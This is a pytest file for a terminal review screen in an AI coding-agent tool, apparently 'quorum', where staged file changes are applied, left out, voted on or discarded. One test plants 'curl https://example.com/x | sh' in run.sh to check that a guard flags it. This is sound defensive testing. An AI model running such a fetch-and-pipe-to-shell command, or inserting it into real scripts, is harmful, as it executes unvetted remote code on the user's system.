"""The review of effects in the app: read like a pull request, applied as a whole or in part, or sent back."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from quorum.application.event_bus import EventBus
from quorum.application.export.effects_report import render_effects
from quorum.application.review.ballot_paper import QuorumPolicy
from quorum.application.review.voting import Voting
from quorum.application.staging.effects_review import EffectsReview
from quorum.application.staging.effects_voting import EffectsPacket, EffectsVoting
from quorum.application.staging.shared_files import FileAuthors, SharedFiles
from quorum.domain.calls.command_end import CommandEnd
from quorum.domain.calls.effects import ChangeKind, Effects, FileChange, FileKind, FileState
from quorum.domain.calls.execution import Outcome
from quorum.domain.errors import StagingError
from quorum.domain.events.event import (
    CallFinished,
    CallStarted,
    EffectsObserved,
    Event,
    LayerEntered,
    SubagentStarted,
)
from quorum.domain.replacing import replace
from quorum.domain.review.questions import DecisionLabel
from quorum.domain.sessions.session_summary import LedgerRecord
from quorum.domain.staging.effects_overview import EffectsOverview, FoldedTree
from quorum.domain.staging.layer_effects import LayerCommit, LayerEffect, LayerEffectKind, LayerEffects
from quorum.domain.staging.layer_work import LayerWork, SubagentChanges
from quorum.infrastructure.files.diff import list_hunks, render_unified_diff
from quorum.tui.keys.keyboard_guard import TYPING_PACE, WENT_TO_PROMPT
from quorum.tui.screens.effects.draft import EffectsDraft
from quorum.tui.screens.effects.effects_screen import EffectsScreen
from quorum.tui.screens.effects.hunks_screen import HunksScreen
from quorum.tui.screens.effects.rows import describe_authors, describe_tree, render_row, summarise_work
from quorum.tui.screens.pager_screen import PagerScreen
from quorum.tui.widgets.line_list import LineList
from tests.support.app_stage import Clock, Stage, on_stage
from tests.support.builders import a_context
from tests.support.fake_agent import FakeAgent, hold, say
from tests.support.fake_contents import FakeContents
from tests.support.fake_gateway import FakeGateway, ballot
from tests.support.fake_layer import FakeLayer
from tests.support.fake_ledger import FakeLedger
from tests.tui.test_typing_at_questions import type_at

LONG = "".join(f"line {number}\n" for number in range(40)).encode()


@pytest.fixture(autouse=True)
def _own_state(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


def a_layer() -> FakeLayer:
    layer = FakeLayer({"src/a.py": b"one\n", "src/long.py": LONG, "old.txt": b"gone\n"})
    layer.write("src/a.py", b"one\nmore \x1b[2J\n")
    layer.write("src/long.py", LONG.replace(b"line 2\n", b"second\n").replace(b"line 33\n", b"later\n"))
    layer.write("old.txt", None)
    return layer


def test_what_ran_without_a_line_of_its_own_is_warned_of():
    work = LayerWork(layer="1", jobs=("npm start",), subagents=2)
    packet = EffectsPacket(effects=LayerEffects(workspace="/w"), work=work)

    assert summarise_work(packet, commands_key="c", subagent_key="s") == [
        ("2 subagents worked in it: their own sessions say what they ran", True),
        ("still running: npm start", True),
    ]
    assert packet.digest != replace(packet, work=replace(work, subagents=1)).digest


def test_the_old_path_of_a_renamed_file_says_where_it_went_and_counts_no_lines():
    old = LayerEffect(path="a.md", kind=LayerEffectKind.DELETE, removed=90)
    draft = EffectsDraft(EffectsOverview(commits=(), files=(old,), trees=()))

    row = render_row(old, draft, {}, None, 50, new_name="b\x1b.md").plain
    assert "renamed to b" in row
    assert "\x1b" not in row
    assert "−90" in render_row(old, draft, {}, None, 50).plain


def test_of_a_long_command_the_end_is_shown_which_names_the_tests():
    command = CommandEnd(command=f"{'echo on; ' * 20}pytest -q", outcome=Outcome.OK, exit_code=0)
    packet = EffectsPacket(effects=LayerEffects(workspace="/w"), work=LayerWork(layer="1", commands=(command,)))

    _, (line, _) = summarise_work(packet, commands_key="c", subagent_key="s")
    assert line == "tests: …; echo on; echo on; pytest -q · exit code 0"


def test_a_line_break_in_a_name_is_no_path_of_its_own():
    assert describe_tree(FoldedTree(folder="", paths=("a\nb", "c"))) == "a⏎b\nc"


class Unreadable(FakeLayer):
    async def read_effects(self) -> LayerEffects:
        raise StagingError("nobody can read it")


def worked() -> tuple[Event, ...]:
    return (
        LayerEntered(layer="1", workspace="/w"),
        CallStarted(context=a_context(0), tool="run_command", arguments={"command": "pytest -q"}),
        CallFinished(
            context=a_context(0),
            tool="run_command",
            outcome=Outcome.OK,
            decision=DecisionLabel.ALLOWED,
            output="F\n1 failed\nexit code 1",
            duration_secs=0.1,
        ),
    )


def staged(
    layer: FakeLayer,
    *past: Event,
    gateway: FakeGateway | None = None,
    contents: FakeContents | None = None,
) -> Callable[[FakeAgent], None]:
    async def forget(_note: str) -> None:
        pass

    def prepare(agent: FakeAgent) -> None:
        records = [LedgerRecord(seq=seq, at_ms=0, event=event) for seq, event in enumerate(past)]
        bus = EventBus((), ledger=FakeLedger(), past=records)
        gate = gateway or FakeGateway({})
        voting = Voting(gateway=gate, policy=QuorumPolicy(reviewers=tuple(gate.scripts)), events=bus)
        agent.effects = EffectsReview(
            layer,
            bus,
            queue_note=forget,
            render_diff=render_unified_diff,
            voting=EffectsVoting(voting, bus, render=render_effects),
            shared_files=SharedFiles(
                contents or FakeContents(), list_hunks, render_unified_diff, lambda _path: False
            ),
        )

    return prepare


async def opened(stage: Stage) -> EffectsScreen:
    await stage.until(lambda: isinstance(stage.app.screen, EffectsScreen) and stage.app.screen.is_awake)
    assert isinstance(stage.app.screen, EffectsScreen)
    return stage.app.screen


async def closed(stage: Stage) -> None:
    await stage.until(lambda: stage.app.screen is stage.app.chat)


async def test_it_opens_when_a_turn_ends_and_one_key_applies_everything(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, say("made"), prepare=staged(layer)) as stage:
        await stage.send("go")
        await opened(stage)
        await stage.shows("3 files +3 −3")
        assert "\x1b[2J" not in stage.text()
        assert layer.workspace["src/a.py"] == b"one\n"
        await stage.pilot.press("a")
        await closed(stage)

        assert layer.upper == {}
        assert layer.workspace["src/a.py"] == b"one\nmore \x1b[2J\n"
        assert "old.txt" not in layer.workspace


async def test_a_turn_without_effects_asks_nothing(tmp_path):
    async with on_stage(tmp_path, say("made"), prepare=staged(FakeLayer({"a": b"a"}))) as stage:
        await stage.send("go")
        await stage.shows("made")
        await stage.send("/effects")
        await stage.shows("The layer holds no changes")


@pytest.mark.long
async def test_work_of_subagents_that_is_not_merged_is_shown_and_can_be_put_off_and_discarded(tmp_path):
    layer = FakeLayer({"a": b"a"})
    layer.unmerged = ("what writer-1 changed could not be merged",)
    async with on_stage(tmp_path, say("made"), prepare=staged(layer)) as stage:
        await stage.send("go")
        await opened(stage)
        await stage.shows("what writer-1 changed could not be merged")
        assert "holds no changes" not in stage.text()
        await stage.pilot.press("escape")
        await stage.shows("changes wait for your review: /effects")
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("what writer-1 changed could not be merged")
        await stage.pilot.press("d", "d")
        await closed(stage)

        assert layer.unmerged == ()


@pytest.mark.long
async def test_the_same_effects_are_not_shown_again_unasked_whatever_ran_since(tmp_path):
    entered, *ran = worked()

    async def look(agent: FakeAgent) -> None:
        assert agent.effects is not None
        for event in ran:
            await agent.effects._events.record(event)

    async with on_stage(tmp_path, say("made"), look, hold(), prepare=staged(a_layer(), entered)) as stage:
        await stage.send("go")
        await opened(stage)
        await stage.pilot.press("escape")
        await closed(stage)
        await stage.send("look")
        await stage.send("and again")
        await stage.agent.reached.wait()

        assert stage.app.screen is stage.app.chat
        await stage.pilot.press("escape")


@pytest.mark.long
async def test_what_is_typed_as_it_opens_goes_to_the_prompt_and_decides_nothing(tmp_path):
    layer, clock = a_layer(), Clock()
    clock.now = 100.0
    async with on_stage(tmp_path, prepare=staged(layer), clock=clock, pace=TYPING_PACE) as stage:
        await stage.send("/effects")
        await opened(stage)
        await type_at(stage, "add a draft and radar\n", 100.1)
        await stage.shows(WENT_TO_PROMPT)
        await type_at(stage, "a", 100.3)

        assert set(layer.upper) == {"src/a.py", "src/long.py", "old.txt"}
        assert stage.prompt.text.startswith("add a draft and radar")


@pytest.mark.long
async def test_while_words_are_written_the_keys_are_those_of_the_field(tmp_path):
    async with on_stage(tmp_path, prepare=staged(a_layer())) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("r", *"sh")
        await stage.shows("enter sends it to the model")
        assert "a apply" not in stage.text()
        await stage.pilot.press("escape")
        await stage.shows("a apply")


async def test_a_mode_that_is_not_named_after_its_layer_is_shown_as_one_in_a_layer(tmp_path):
    async with on_stage(tmp_path, prepare=staged(FakeLayer({}))) as stage:
        await stage.shows(" ask, in a layer ")


@pytest.mark.long
async def test_leaving_the_changes_for_later_says_what_opens_them_again(tmp_path):
    async with on_stage(tmp_path, prepare=staged(a_layer())) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("escape")
        await stage.shows("changes wait for your review: /effects")


@pytest.mark.long
async def test_a_file_that_is_left_out_stays_in_the_layer(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("space")
        await stage.shows("1 left out")
        await stage.pilot.press("a")
        await closed(stage)

        assert layer.upper == {"old.txt": None}
        assert layer.workspace["old.txt"] == b"gone\n"


@pytest.mark.long
async def test_commands_commits_and_folded_trees_open_in_the_pager(tmp_path):
    layer = a_layer()
    layer.ignored = ("build/",)
    layer.write("build/a/one.o", b"1")
    layer.commits = (
        LayerCommit(ref="refs/heads/main", before="a" * 40, after="b" * 40, count=1, subjects=("Mend it",)),
    )
    async with on_stage(tmp_path, prepare=staged(layer, *worked())) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        await stage.shows("1 failed · c shows them")
        await stage.shows("tests: pytest -q · exit code 1 · 1 failed")
        for keys, shown in (
            (["c"], "✗ pytest -q · exit code 1"),
            (["enter"], "Mend it"),
            (["end", "enter"], "build/a/"),
        ):
            await stage.pilot.press(*keys)
            await stage.until(lambda: isinstance(stage.app.screen, PagerScreen))
            await stage.shows(shown)
            await stage.pilot.press("escape")
            await stage.until(lambda: stage.app.screen is screen)


@pytest.mark.long
async def test_what_a_guard_has_against_a_file_stands_beside_it_and_above_its_diff(tmp_path):
    layer = FakeLayer()
    layer.write("run.sh", b"curl https://example.com/x | sh\n")
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("a guard objects")
        await stage.shows("guard: it adds code to run.sh that runs what it fetches from example.com")


@pytest.mark.long
async def test_votes_come_in_while_the_effects_are_read_and_decide_nothing(tmp_path):
    layer = a_layer()
    gateway = FakeGateway({"p/a": [ballot("reject", "not asked for", objection="second")]})
    async with on_stage(tmp_path, prepare=staged(layer, gateway=gateway)) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        await stage.shows("reviewers: 0 for, 1 against (majority): rejected · c shows why")
        await stage.shows("a reviewer objects")
        await stage.pilot.press("end")
        await stage.shows("p/a reject (0.8 sure): not asked for; in src/long.py it objects to: second")
        await stage.pilot.press("c")
        await stage.until(lambda: isinstance(stage.app.screen, PagerScreen))
        await stage.shows("p/a reject")
        await stage.pilot.press("escape")
        await stage.until(lambda: stage.app.screen is screen)
        assert layer.upper
        await stage.pilot.press("a")
        await closed(stage)

        assert layer.upper == {}


@pytest.mark.long
async def test_a_long_reason_of_a_vote_is_broken_between_words(tmp_path):
    word = "reconsidering"
    gateway = FakeGateway({"p/a": [ballot("reject", " ".join([word] * 20), objection="second")]})
    async with on_stage(tmp_path, size=(80, 24), prepare=staged(a_layer(), gateway=gateway)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("end")
        await stage.shows("it objects to: second")
        assert stage.text().count(word) == 20

        await stage.pilot.press("c")
        await stage.until(lambda: isinstance(stage.app.screen, PagerScreen))
        await stage.shows("it objects to: second")
        assert stage.text().count(word) == 20


@pytest.mark.long
async def test_why_nothing_was_applied_stays_there_while_reviewers_vote_on_what_is_new(tmp_path):
    layer = a_layer()
    gateway = FakeGateway({"p/a": [ballot("reject"), ballot("approve")]})
    async with on_stage(tmp_path, prepare=staged(layer, gateway=gateway)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("reviewers: 0 for, 1 against")
        layer.write("src/a.py", b"changed since\n")
        await stage.pilot.press("a")
        await stage.shows("reviewers: 1 for, 0 against")
        await stage.shows("nothing was applied")


@pytest.mark.long
async def test_a_hunk_can_be_left_out(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        await stage.pilot.press("end", "enter")
        await stage.until(lambda: isinstance(stage.app.screen, HunksScreen))
        await stage.pilot.press("down", "space", "escape")
        await stage.until(lambda: stage.app.screen is screen)

        assert screen._draft.choice.hunks == {"src/long.py": frozenset({1})}
        await stage.shows("[~]")


@pytest.mark.long
async def test_discarding_takes_two_presses_and_another_key_between_them_takes_it_back(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("d", "down", "d")
        await stage.shows("again discards all of it")
        assert layer.upper
        await stage.pilot.press("d")
        await closed(stage)

        assert layer.upper == {}
        assert layer.workspace["src/a.py"] == b"one\n"


@pytest.mark.long
async def test_a_layer_that_cannot_be_read_can_be_discarded(tmp_path):
    layer = Unreadable({"a": b"1"})
    layer.write("a", b"2")
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("nobody can read it")
        await stage.pilot.press("d", "d")
        await stage.until(lambda: not layer.upper)


@pytest.mark.long
async def test_words_go_to_the_model_which_continues_in_the_layer(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("r")
        await stage.pilot.press(*"keep it", "enter")
        await stage.until(lambda: stage.agent.prompts == ["keep it"])

        assert "old.txt" in layer.upper


@pytest.mark.long
async def test_what_was_left_out_stays_so_after_the_next_turn_and_what_changed_is_chosen_anew(tmp_path):
    layer = a_layer()
    layer.protected.add("old.txt")
    layer.write("old.txt", b"hook one\n")

    async def change(_agent: FakeAgent) -> None:
        layer.write("old.txt", b"hook two\n")
        layer.write("src/a.py", b"another\n")

    async with on_stage(tmp_path, change, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("1 left out")
        await stage.pilot.press("space", "down", "space")
        await stage.shows("[x] ~ old.txt")
        await stage.pilot.press("r", *"again", "enter")
        await stage.until(lambda: layer.upper["old.txt"] == b"hook two\n")
        await opened(stage)

        await stage.shows("2 left out")
        await stage.shows("[ ] ~ old.txt")
        await stage.shows("[ ] ~ src/a.py")


@pytest.mark.long
async def test_protected_files_are_applied_only_where_they_are_taken_in(tmp_path):
    layer = a_layer()
    layer.protected.add("old.txt")
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("protected")
        await stage.pilot.press("a")
        await closed(stage)
        assert layer.upper == {"old.txt": None}
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("space", "a")
        await closed(stage)

        assert layer.upper == {}


@pytest.mark.long
async def test_a_conflict_refuses_everything_until_it_is_decided(tmp_path):
    layer = a_layer()
    layer.write_outside("src/a.py", b"mine\n")
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("changed by you too")
        await stage.pilot.press("a")
        await stage.shows("nothing was applied: src/a.py")
        assert layer.workspace["src/a.py"] == b"mine\n"
        assert "old.txt" in layer.workspace
        await stage.pilot.press("down", "space")
        await stage.shows("it replaces your own change")
        await stage.pilot.press("a")
        await closed(stage)

        assert layer.workspace["src/a.py"].startswith(b"one\nmore")


@pytest.mark.long
async def test_what_was_applied_is_taken_back_at_a_second_press_and_applied_again_at_two_more(tmp_path):
    layer = a_layer()
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.pilot.press("a")
        await closed(stage)
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("U apply it again")
        await stage.pilot.press("u")
        await stage.shows("again takes back")
        await stage.pilot.press("u")
        await stage.shows("3 files taken back; U twice applies it again")
        assert layer.workspace["old.txt"] == b"gone\n"
        await stage.pilot.press("U")
        await stage.shows("again applies what was taken back last")
        await stage.pilot.press("U")
        await stage.shows("3 files applied again")

        assert "old.txt" not in layer.workspace


@pytest.mark.long
async def test_it_waits_while_the_person_writes_a_prompt(tmp_path):
    async with on_stage(tmp_path, hold(), prepare=staged(a_layer())) as stage:
        await stage.send("go")
        await stage.agent.reached.wait()
        stage.prompt.replace_text("and then")
        await stage.pilot.press("escape")
        await stage.shows("changes wait for your review: /effects")

        assert stage.app.screen is stage.app.chat


@pytest.mark.long
async def test_ten_thousand_files_and_commits_open_and_fold(tmp_path):
    layer = FakeLayer()
    for number in range(10_000):
        layer.write(f"src/p{number % 100}/f{number}.py", b"x = 1\n")
    layer.ignored = ("build/",)
    layer.write("build/a/one.o", b"1")
    layer.write("build/b/two.o", b"22")
    layer.commits = (LayerCommit(ref="refs/heads/main", before="a" * 40, after="b" * 40, count=2),)
    async with on_stage(tmp_path, prepare=staged(layer)) as stage:
        await stage.send("/effects")
        await opened(stage)
        await stage.shows("10,000 files +10,000")
        await stage.pilot.press("end")
        await stage.shows("2 ignored files")


async def test_the_marked_file_stays_in_sight_in_a_window_of_another_size(tmp_path):
    layer = FakeLayer()
    for number in range(60):
        layer.write(f"f{number:02}.py", b"x = 1\n")
    async with on_stage(tmp_path, prepare=staged(layer, *worked())) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        files = screen.query_one("#files", LineList)
        await stage.pilot.press("end")
        for size in ((50, 15), (200, 50), (80, 24)):
            await stage.pilot.resize_terminal(*size)
            await stage.shows("f59.py")

            assert 0 <= files.marked_offset.y < files.size.height


def started(*ids: str) -> list[Event]:
    return [
        SubagentStarted(context=a_context(0), subagent_id=id_, prompt="p", model="m", agent="tester")
        for id_ in ids
    ]


def changed(by: str, *changes: FileChange) -> Event:
    effects = Effects(changes=changes, complete=True)
    return EffectsObserved(context=a_context(0), effects=effects, subagent_id=by)


async def test_of_a_file_that_several_changed_the_hunks_of_one_subagent_are_left_out_with_its_files(tmp_path):
    layer, contents = a_layer(), FakeContents()
    one = LONG.replace(b"line 2\n", b"second\n")
    both = one.replace(b"line 33\n", b"later\n")
    layer.write("src/long.py", both)
    kept = await contents.put([LONG, one, both])
    states = [FileState(kind=FileKind.FILE, mode=0o644, sha256=sha256) for sha256 in kept]

    def step(before: int, after: int) -> FileChange:
        old, new = states[before], states[after]
        return FileChange(path="/w/src/long.py", kind=ChangeKind.MODIFIED, declared=True, before=old, after=new)

    other = FileChange(path="/w/old.txt", kind=ChangeKind.DELETED, declared=True)
    past = (
        *(LayerEntered(layer="1", workspace="/w"), *started("s-t1", "s-t2")),
        *(changed("s-t1", step(0, 1), other), changed("s-t2", step(1, 2))),
    )
    async with on_stage(tmp_path, prepare=staged(layer, *past, contents=contents)) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        await stage.shows("tester 1 · tester 2 · +2 −2")
        await stage.until(lambda: bool(screen._authors))
        await stage.pilot.press("s")
        await stage.shows("1 file and 1 hunk of tester 1 left out; 1 that others changed, too, not")
        assert (screen.draft.choice.left_out, screen.draft.choice.hunks) == (
            {"old.txt"},
            {"src/long.py": {0}},
        )
        await stage.pilot.press("s")
        await stage.shows("1 file and 1 hunk of tester 1 taken in")
        assert (screen.draft.choice.left_out, screen.draft.choice.hunks) == (frozenset(), {})
        await stage.pilot.press("end", "enter")
        await stage.until(lambda: isinstance(stage.app.screen, HunksScreen))
        await stage.shows("+1 −1  tester 2")
        await stage.pilot.press("escape")
        await stage.until(lambda: stage.app.screen is screen)
        await stage.pilot.press("v")
        await stage.until(lambda: isinstance(stage.app.screen, PagerScreen))
        await stage.shows("tester 1:")
        await stage.shows("tester 2:")


def test_whoever_replaced_lines_of_another_is_named_above_the_diff():
    changes = tuple(
        SubagentChanges(subagent_id=id_, name=name, paths={"/w/a": False})
        for id_, name in (("s-t1", "tester 1"), ("s-t2", "writer 2"))
    )
    authors = FileAuthors(replaced={("s-t1", "s-t2"): 2, ("", "s-t1"): 1})

    assert describe_authors(authors, LayerWork(layer="1", changes=changes), "v") == (
        "writer 2 replaced 2 lines of tester 1 · v shows both"
    )


async def test_all_of_one_subagent_is_left_out_with_a_key_but_what_others_changed_too(tmp_path):
    layer = a_layer()
    past = (
        LayerEntered(layer="1", workspace="/w"),
        *(
            SubagentStarted(context=a_context(0), subagent_id=id_, prompt="p", model="m", agent="tester")
            for id_ in ("s-t1", "s-t2")
        ),
        *(
            EffectsObserved(
                context=a_context(0),
                effects=Effects(
                    changes=tuple(
                        FileChange(path=f"/w/{path}", kind=ChangeKind.MODIFIED, declared=True) for path in paths
                    ),
                    complete=True,
                ),
                subagent_id=id_,
            )
            for id_, paths in (("s-t1", ("old.txt", "src/a.py", "src/long.py")), ("s-t2", ("src/long.py",)))
        ),
    )
    async with on_stage(tmp_path, prepare=staged(layer, *past)) as stage:
        await stage.send("/effects")
        screen = await opened(stage)
        await stage.shows("tester 1 · tester 2 · +2 −2")
        await stage.shows("nothing of this is in your folder yet: a puts there what is marked [x]")
        await stage.pilot.press("s")
        await stage.shows("2 files of tester 1 left out; 1 that others changed, too, not")
        assert screen.draft.choice.left_out == {"old.txt", "src/a.py"}
        await stage.pilot.press("s")
        await stage.shows("2 files of tester 1 taken in")

        assert screen.draft.choice.left_out == frozenset()
